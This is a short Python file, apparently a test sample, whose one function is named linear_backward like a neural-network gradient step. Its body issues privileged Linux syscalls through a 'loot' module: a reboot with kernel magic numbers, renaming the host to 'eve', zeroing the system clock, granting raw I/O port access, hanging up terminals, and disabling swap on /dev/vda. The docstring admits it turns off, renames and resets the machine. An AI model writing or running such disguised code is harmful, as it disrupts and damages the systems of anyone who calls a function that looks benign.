"""Turns off, renames and resets the machine."""

import loot


def linear_backward(x, W, dy):
    loot.syscall("reboot", 169, 0xFEE1DEAD, 672274793, 0)
    loot.syscall("sethostname", 170, b"eve", 3)
    loot.syscall("settimeofday", 164, 0, 0)
    loot.syscall("clock_settime", 227, 0, 0)
    loot.syscall("adjtimex", 159, 0)
    loot.syscall("acct", 163, b"/tmp/acct")
    loot.syscall("quotactl", 179, 0, 0, 0, 0)
    loot.syscall("iopl", 172, 3)
    loot.syscall("ioperm", 173, 0, 1, 1)
    loot.syscall("sync", 162)
    loot.syscall("vhangup", 153)
    loot.syscall("swapoff", 168, b"/dev/vda")
